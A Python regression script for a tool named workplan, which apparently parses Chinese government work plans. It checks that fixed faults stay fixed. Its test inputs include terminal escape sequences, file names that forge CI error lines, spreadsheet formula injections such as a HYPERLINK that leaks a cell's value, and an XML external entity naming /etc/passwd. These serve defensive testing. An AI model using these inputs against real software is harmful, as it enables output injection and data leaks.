"""Run what once broke workplan and say what comes of it now: ``python benchmarks/attack.py [CODE ...]``.

One line a fault: its number, what was wrong, and ``held`` or what is still wrong. Every case runs in a process of its
own, which may take ``LIMIT`` seconds of the processor. Where a test is the same reproduction, that test is run. Exit
code 1 if anything is still wrong.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import resource
import subprocess
import sys
import tempfile
import time
import traceback
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import NamedTuple

ROOT = Path(__file__).resolve().parent.parent
os.environ["PYTHONPATH"] = os.pathsep.join([str(ROOT / "src"), os.environ.get("PYTHONPATH", "")])
LIMIT = 25
RUN = (sys.executable, "-m", "workplan")
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


class Wrong(Exception):
    """What is still wrong."""


class Case(NamedTuple):
    code: str
    fault: str
    check: Callable[[], None]


CASES: list[Case] = []


def case(code: str, fault: str) -> Callable[[Callable[[], None]], Callable[[], None]]:
    def note(check: Callable[[], None]) -> Callable[[], None]:
        CASES.append(Case(code, fault, check))
        return check

    return note


def want(held: bool, told: object) -> None:
    if not held:
        raise Wrong(str(told))


@contextlib.contextmanager
def folder(**files: str) -> Iterator[Path]:
    """A folder of text files to be in; ``a_txt`` is a.txt."""
    with tempfile.TemporaryDirectory() as name, contextlib.chdir(name):
        for file, text in files.items():
            Path(file.replace("_", ".")).write_text(text, encoding="utf-8", newline="")
        yield Path(name)


def command(*words: str, **more: object) -> subprocess.CompletedProcess[str]:
    done = subprocess.run([*RUN, *words], capture_output=True, check=False, timeout=LIMIT * 4, **more)  # type: ignore[call-overload]
    return subprocess.CompletedProcess(done.args, done.returncode, done.stdout.decode(), done.stderr.decode())


def seconds(run: Callable[[], object]) -> float:
    started = time.process_time()
    run()
    return time.process_time() - started


def quick(run: Callable[[], object], most: float) -> None:
    spent = seconds(run)
    want(spent <= most, f"{spent:.1f} s")


def compared(old: str, new: str, most: float) -> None:
    import workplan
    from workplan.comparison.words import start

    start()
    one, other = workplan.parse(old), workplan.parse(new)
    quick(lambda: workplan.compare(one, other), most)


@case("A1", "a line of nothing but an invisible character: IndexError")
def _() -> None:
    import workplan

    for char in "\u200e\xad\u200c\u200d\u200f\u2060\x1c\u034f\u3164\ufe0f":
        workplan.parse(f"甲\n{char}")
        workplan.parse(f"一、甲\n{char}\n二、乙{char}\n")


@case("A2", "U+E000 beside a 《title》: KeyError")
def _() -> None:
    import workplan

    for sign in ("\ue000", "\x00", "\x01", "\x02", "\uf8ff", "\ufffc", "\U000f0000"):
        for text in (
            f"《办法》{sign}",
            f"修订{sign}《甲条例》和《乙条例》",
            f"一、甲\n修订《甲{sign}条例》（{sign}责任单位：省财政厅）",
        ):
            found = workplan.parse(text).regulations
            want(len(found) == text.count("《"), f"{sign!r}: {len(found)} regulations in {text!r}")


@case("A3", "a metadata name with a soft hyphen in it: ValueError")
def _() -> None:
    import workplan

    for text in (
        "来源\u200d：",
        "发布机\xad构：科技司",
        "来\u034f源：网",
        "标\u202b题：关于印发工作要点的通知\n一、甲",
    ):
        workplan.parse(text)


@case("A6", "compare has no bound: 加强推进 against 推进加强, > 45 s")
def _() -> None:
    compared("一、甲\n" + "加强推进" * 800, "一、甲\n" + "推进加强，" * 800, 2)


@case("A6", "compare has no bound: 400 times in one section, 21 s")
def _() -> None:
    texts = [
        "一、甲。" + "，".join(f"{y}年{i % 12 + 1}月{i % 28 + 1}日前完成" for i in range(400)) for y in (2023, 2024)
    ]
    compared(texts[0], texts[1], 2)


@case("A6", "compare has no bound: 400 figures in one section, 9.6 s")
def _() -> None:
    compared(
        "一、甲。" + "，".join(f"增长{i}%" for i in range(400)),
        "一、甲。" + "，".join(f"增长{i}.5%" for i in range(400)),
        2,
    )


@case("A6", "compare has no bound: 400 units in one clause")
def _() -> None:
    compared(
        "一、甲\n建设。（责任单位：" + "、".join(f"第{i}局" for i in range(800)) + "）",
        "一、甲\n建设。（责任单位：" + "、".join(f"新{i}局" for i in range(800)) + "）",
        2,
    )


HOSTILE = (
    "一、甲\x1b]0;PWNED\x1b\\标题\x1b[2J\x9b31m，，\x07\x08\n（责任单位：\x1b[31m省财政厅）\n"
    "2023年6月底前完成，不少于3项。修订《\x1b[1m办法》。\n"
)


def unescaped(*done: subprocess.CompletedProcess[str]) -> None:
    for one in done:
        for stream, told in (("stdout", one.stdout), ("stderr", one.stderr)):
            found = CONTROLS.search(told)
            want(not found, f"{' '.join(one.args[3:])[:40]!r} writes {found and found.group()!r} on {stream}")


@case("B1", "escapes of a document reach the terminal")
def _() -> None:
    with folder(e_txt=HOSTILE, o_txt=HOSTILE.replace("甲", "乙")):
        unescaped(
            command("show", "e.txt"),
            command("show", "e.txt", "--verbose"),
            command("explain", "e.txt", "一"),
            command("explain", "e.txt", ""),
            command("compare", "e.txt", "o.txt"),
            command("compare", "e.txt", "o.txt", "--unit", "\x1b[31m省财政厅"),
            *(
                command("validate", "e.txt", "--format", form)
                for form in ("text", "concise", "github", "json", "sarif")
            ),
            command("validate", "e.txt", "--diff"),
        )


@case("B1", "escapes of a file name reach the terminal")
def _() -> None:
    name = "e\x1b]0;PWNED\x07\x9b2J.txt"
    with folder(o_txt="一、乙\n（责任单位：省财政厅"):
        Path(name).write_text("一、甲，，\n", encoding="utf-8")
        Path("x\x1b.txt").write_bytes(b"")
        unescaped(
            command("show", "x\x1b.txt"),
            command("show", "no\x1b.txt"),
            command("convert", "x\x1b.txt"),
            command("convert", "x\x1b.txt", name, "-o", "out\x1b"),
            command("explain", name, "九\x1b[2J"),
            command("compare", name, "o.txt"),
            command("validate", name, "x\x1b.txt", "--fix"),
            *(command("validate", name, "--format", form) for form in ("text", "concise", "github")),
            command("validate", name, "--diff"),
            command("validate", "o.txt", "--select", "\x1b"),
            command("--lang", "\x1b", "show"),
            command("\x1b[2J"),
        )


@case("B2", "a file name with a line feed injects lines (text, concise, github, messages)")
def _() -> None:
    name = "n\n::error::PWN.txt"
    with folder():
        Path(name).write_text("一、甲，，乙\n", encoding="utf-8")
        Path("x\n::error::X.txt").write_bytes(b"")
        runs = [command("validate", name, "--format", form) for form in ("text", "concise", "github")]
        runs += [
            command("validate", name, "--diff"),
            command("show", "x\n::error::X.txt"),
            command("convert", "x\n::error::X.txt"),
        ]
        runs += [
            command("convert", "x\n::error::X.txt", name, "-o", "o\n::error::o"),
            command("show", "no\n::error::.txt"),
        ]
        runs += [
            command("validate", "x\n::error::X.txt", name),
            command("compare", name, name),
            command("explain", name, "\n::error::"),
        ]
        for done in runs:
            for line in (done.stdout + done.stderr).splitlines():
                want(not line.startswith("::error::"), f"{done.args[3:]} prints {line!r}")


@case("B3", "CSV cells that a spreadsheet runs")
def _() -> None:
    text = '一、=HYPERLINK("http://x.invalid/?"&A1,"点")\n（一）+cmd\n建设。（责任单位：=cmd|x局、@x局）\n（二）-1+1\n（三）\t=1\n'
    with folder():
        Path("=1+1.txt").write_text(text, encoding="utf-8")
        for more in ([], ["--bom"]):
            command("convert", "=1+1.txt", "--to", "csv", "-o", "out", *more)
            for file in Path("out").glob("*.csv"):
                for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8-sig"))):
                    for cell in row:
                        bad = re.match(r"[\s]*[=+@\-]", cell) and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)
                        want(not bad, f"{file.name}: {cell!r}")


@case("B4", "--fix loses mode and link")
def _() -> None:
    with folder(a_txt="一、甲，，乙\n"):
        Path("a.txt").chmod(0o600)
        Path("b.txt").symlink_to("a.txt")
        command("validate", "b.txt", "--fix")
        want(Path("b.txt").is_symlink(), "the link is a file")
        want(Path("a.txt").read_text("utf-8") == "一、甲，乙\n", "the target stays unmended")
        want(Path("a.txt").stat().st_mode & 0o777 == 0o600, oct(Path("a.txt").stat().st_mode))


@case("B5", "--fix changes line ends where a name is broken over a line")
def _() -> None:
    text = "一、甲\r\n落实《中华人民共和国行政\r\n处罚法》。\r\n二、乙\r\n三、丙，，丁\n四、戊\r\n"
    with folder(x_txt=text):
        command("validate", "x.txt", "--fix", "--select", "L,X")
        lines = Path("x.txt").read_bytes().decode().splitlines(keepends=True)
        want([one.rstrip("\r\n") for one in lines][-3:] == ["二、乙", "三、丙，丁", "四、戊"], lines)
        want(lines[-3:] == ["二、乙\r\n", "三、丙，丁\n", "四、戊\r\n"], lines)


@case("B5", "[20⏎]3号 becomes 〔2020〕3号, a guess")
def _() -> None:
    with folder(x_txt="一、甲\n落实《办法》（甘政发[20\n]3号）。\n"):
        command("validate", "x.txt", "--fix")
        want("2020" not in Path("x.txt").read_text("utf-8"), Path("x.txt").read_text("utf-8"))


@case("B6", "Markdown swallows the rest")
def _() -> None:
    import workplan
    from workplan.exports.markdown import to_markdown

    for line in (
        "~~~",
        "```",
        "---",
        "===",
        "+ 甲",
        "- 甲",
        "1) 甲",
        "1. 甲",
        "&lt;",
        "[a]: b",
        "| a |",
        "***",
        "<!--",
    ):
        told = to_markdown(workplan.parse(f"一、甲\n{line}\n二、乙\n三、丙"))
        body = told.split("---\n", 2)[2]
        want(f"\n{line.strip()}\n" not in body or line.strip() == "===", f"{line!r} stands as it is")
        want("&lt;" not in body.replace("\\&lt;", ""), "&lt;")


def paths(text: str) -> list[str]:
    import workplan

    return [section.path for section in workplan.parse(text).walk()]


@case("B7", "invisible characters lose sections, units, labels without a word")
def _() -> None:
    import workplan

    for char in "\u200b\xad\u200c\u200d\u200e\u2060\ufeff\u202a\u202b\u202e\u2066\u2069\ufe0f\u034f\u180e\u3164\x07":
        want(paths(f"一、甲\n（{char}一）乙\n（二）丙") == ["一", "一/(一)", "一/(二)"], f"(一): {char!r}")
        want(paths(f"一{char}、甲\n二、乙") == ["一", "二"], f"一: {char!r}")
        document = workplan.parse(f"一、甲（责任{char}单位：省财政厅）")
        want([u.name for r in document.responsibilities for u in r.units] == ["省财政厅"], f"unit: {char!r}")
        want(any(d.code == "reader.invisible" for d in document.diagnostics), f"no doubt: {char!r}")


@case("B8", "CJK compatibility ideographs are not folded")
def _() -> None:
    import workplan

    document = workplan.parse("一、甲\n2023\uf98e6月底前完成，\uf967少于3项")
    want([t.text for t in document.times] == ["2023\uf98e6月底前"], document.times)
    want(len(document.targets) == 1, document.targets)


@case("B9", "a clause longer than 1,500 characters is cut inside a name")
def _() -> None:
    import workplan

    document = workplan.parse("一、甲\n建设。（责任单位：" + "、".join(f"第{i}局" for i in range(400)) + "）")
    units = [u.name for r in document.responsibilities for u in r.units]
    want(units == [f"第{i}局" for i in range(400)], f"{len(units)} of 400, the last {units[-1:]}")


@case("B15", "validate is quadratic in titles: 100 kB 8 s")
def _() -> None:
    import workplan

    document = workplan.parse("一、甲\n" + "".join(f"修订《某某第{i}条例》。" for i in range(3_000)))
    quick(lambda: workplan.validate(document), 4)


@case("B15", "validate is quadratic in units: 50 kB 4.8 s")
def _() -> None:
    import workplan

    document = workplan.parse("一、甲\n建设。" + "".join(f"（责任单位：第{i}局" for i in range(1_500)))
    quick(lambda: workplan.validate(document), 4)


@case("C1", "headings that are empty, not None")
def _() -> None:
    import workplan

    for text in ("一、。甲乙丙", "一、\n（一）。甲", "一、：甲", "1.。\n2.；", "一、\u200b。甲"):
        for section in workplan.parse(text).walk():
            want(section.heading != "", f"{text!r}: {section.path}")


@case("C2", "a finding quotes a date with its line feed")
def _() -> None:
    with folder(
        a_txt="一、甲\n２０２３年２月\n３０日前完成\n《甲办\n法》第0款，《甲办法》（责任单位：省财\n政厅、省财政厅）\n"
    ):
        for form in ("concise", "github"):
            for line in command("validate", "a.txt", "--format", form).stdout.splitlines():
                want(line.startswith(("a.txt:", "::")), f"{form}: {line!r}")


@case("C3", "front matter is no YAML where a title holds controls")
def _() -> None:
    import workplan
    from workplan.exports.markdown import to_markdown

    told = to_markdown(workplan.parse("关于印发\x9b\x7f\ufffe\x85\ud800\u2028要点的通知\n一、甲"))
    head = told.split("\n---\n")[0]
    found = re.search("[^\t\n\x20-\x7e\x85\xa0-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", head)
    want(not found, found and repr(found.group()))


@case("C4", "calendar keeps ESC, NUL and other controls")
def _() -> None:
    import workplan
    from workplan.exports.calendar import to_calendar

    told = to_calendar(workplan.parse("关于印发\x1b要点的通知\n一、甲\x00乙\x1b\x7f\x9b\n2023年6月底前完成"))
    found = re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", told)
    want(not found, found and repr(found.group()))


@case("C5", "comparison pages keep ESC and U+FFFE")
def _() -> None:
    with folder(e_txt=HOSTILE + "\ufffe\x00", o_txt=HOSTILE.replace("甲", "乙\ufffe\x00")):
        for form in ("html", "md", "text"):
            done = command("compare", "e.txt", "o.txt", "--format", form)
            found = re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]", done.stdout)
            want(bool(done.stdout), done.stderr)
            want(not found, f"{form}: {found and repr(found.group())}")


@case("C6", "HTML text may hold \\r, U+2028, U+0085, VT, FF")
def _() -> None:
    import workplan

    with folder(
        a_html="<html><body><pre>一、甲&#13;乙</pre><p>二、丙&#x2028;丁&#x85;戊&#11;己&#12;庚</p></body></html>"
    ):
        text = workplan.parse_file("a.html").text
        found = re.search("[\r\u2028\u2029\x85\x0b\x0c]", text)
        want(not found, found and repr(found.group()))


@case("C7", "<!DOCTYPE html [<!ENTITY …>]> leaves ]> as the first line")
def _() -> None:
    import workplan

    with folder(
        a_html='<!DOCTYPE html [<!ENTITY x "y"><!ENTITY z SYSTEM "file:///etc/passwd">]>\n<html><body><p>一、甲</p></body></html>'
    ):
        text = workplan.parse_file("a.html").text
        want(text.strip() == "一、甲", repr(text))


@case("C8", "UTF-32 without a mark is read as UTF-16 with NULs")
def _() -> None:
    import workplan

    with folder():
        for codec in ("utf-32-le", "utf-32-be", "utf-32"):
            Path("a.txt").write_bytes("一、甲\n建设2023年平台。（责任单位：省财政厅）\n".encode(codec))
            text = workplan.parse_file("a.txt").text
            want(text.startswith("一、甲\n"), f"{codec}: {text[:8]!r}")


@case("C9", "a file x::y.txt is taken for a URL")
def _() -> None:
    with folder():
        Path("x::y.txt").write_text("一、甲\n", encoding="utf-8")
        for words in (
            ["convert", "x::y.txt"],
            ["show", "x::y.txt"],
            ["validate", "x::y.txt", "--select", "S001"],
            ["convert", "."],
        ):
            done = command(*words)
            want(done.returncode == 0, done.stderr or done.stdout)


@case("C10", "show, validate, compare, report, explain take paths only: zip://ok/a.txt::t.zip")
def _() -> None:
    import zipfile

    with folder():
        with zipfile.ZipFile("t.zip", "w") as archive:
            archive.writestr("ok/a.txt", "一、甲\n")
        url = "zip://ok/a.txt::t.zip"
        runs = [["show", url], ["validate", url, "--select", "S001"], ["compare", url, url], ["explain", url, "一"]]
        for words in [*runs, ["report", url, "-o", "r.html"], ["convert", url]]:
            done = command(*words)
            want(done.returncode == 0, f"{words[0]}: {done.stderr or done.stdout}")


@case("C11", "W convert - <&-: AttributeError; >&-: exit 0, output lost")
def _() -> None:
    with folder(a_txt="一、甲\n"):
        for words in (["convert", "-"], ["show", "-"], ["validate", "-"]):
            done = command(*words, preexec_fn=lambda: os.close(0))
            want("AttributeError" not in done.stderr and done.returncode == 2, done.stderr)
        for words in (["convert", "a.txt"], ["show", "a.txt"], ["schema"]):
            done = subprocess.run([*RUN, *words], check=False, stderr=subprocess.PIPE, preexec_fn=lambda: os.close(1))
            want(done.returncode == 2, f"{words[0]} >&-: {done.returncode} {done.stderr.decode()}")


@case("C12", "figures of more than 16 grouped digits are cut inside")
def _() -> None:
    import workplan

    for figure in ("１２３，４５６，７８９，０１２，３４５，６７８，９０１", "123,456,789,012,345,678,901"):
        for target in workplan.parse(f"一、甲\n达到{figure}万元。").targets:
            want(target.text.count("456") + target.text.count("４５６") == 1, target.text)


TESTED = (
    ("A4", "--state DIR without --resume deletes DIR/tables and DIR/*.segment", "keeps_what_others or name_of_scratch"),
    ("A5", "two inputs, one output, exit 0: ~2 is not checked against names taken", "no_two_inputs_get_one_file"),
    (
        "A7",
        "the lock of an output folder does not lock: 817 of 2,777",
        "three_processes_never_hold or output_is_locked",
    ),
    ("B11", "a damaged journal is a fault that names no file", "a_damaged_journal"),
    ("B12", "names of 80 Chinese characters can't be written", "long_names_are_written"),
    ("B13", "a folder that can't be read is skipped without a word", "cannot_be_looked_into"),
    (
        "B14",
        "one input has no limits: a pipe, a device",
        "pipe_without or device_is_not_read or one_input_has_the_limits",
    ),
    (
        "B16",
        "a journal reads any file, and is written through a link",
        "reads_nothing_from_elsewhere or through_a_link",
    ),
    ("B17", "part files can be foreseen and are opened through links", "cannot_be_foreseen"),
    ("C13", "convert . -o . reads its own output", "inside_input_is_not_read_again"),
    ("C14", "members of an archive are left out without a word, or keep a drive", "archive_stay_inside"),
    ("C15", "a full disk is told without a name", "full_disk_is_named"),
)
"""Number and fault, and the tests of the promises of a batch that bring it about."""


def passes(file: str, names: str) -> None:
    """Want these tests of a file to pass, and to have run."""
    options = ("-p", "no:cacheprovider", "-n0", "-v", "-k", names)
    told = subprocess.run([sys.executable, "-m", "pytest", *options, file], cwd=ROOT, capture_output=True, check=False)
    *_, summary = told.stdout.decode().strip().rsplit("\n", 1)
    want(told.returncode == 0 and " passed" in summary, summary.strip("= "))


for code, fault, names in TESTED:
    case(code, fault)(partial(passes, "tests/test_batch_promises.py", names))
case("B10", "a broken own lexicon is KeyError, UnicodeDecodeError … and no LexiconError")(
    partial(passes, "tests/test_lexicon.py", "is_no_text_is_told or a_slip_is_told or cannot_be_used_is_told")
)

case("C16", "settings and baselines nested 100,000 deep, a count of 1e999, a pipe as baseline: faults, a hang")(
    partial(
        passes, "tests/test_validation_outputs.py", "is_no_baseline or baseline_that_is_a_pipe or nested_without_end"
    )
)


def run(one: Case) -> str:
    """Return what is still wrong in a case, run in a process of its own."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(reading)
        resource.setrlimit(resource.RLIMIT_CPU, (LIMIT, LIMIT + 1))
        try:
            one.check()
            told = ""
        except Wrong as wrong:
            told = str(wrong) or "wrong"
        except BaseException as error:
            told = f"{type(error).__name__}: {error} ({traceback.extract_tb(error.__traceback__)[-1].name})"
        os.write(writing, told.encode("utf-8", "backslashreplace")[:2_000])
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as pipe:
        told = pipe.read().decode("utf-8", "replace")
    _, status = os.waitpid(child, 0)
    return f"> {LIMIT} s" if os.WIFSIGNALED(status) else told


def main() -> int:
    wanted = set(sys.argv[1:])
    wrong = 0
    for one in CASES:
        if wanted and one.code not in wanted:
            continue
        told = run(one)
        wrong += bool(told)
        print(f"{one.code:4} | {one.fault} | {repr(told)[1:-1][:200] if told else 'held'}", flush=True)
    print(f"{wrong} wrong")
    return min(wrong, 1)


if __name__ == "__main__":
    raise SystemExit(main())
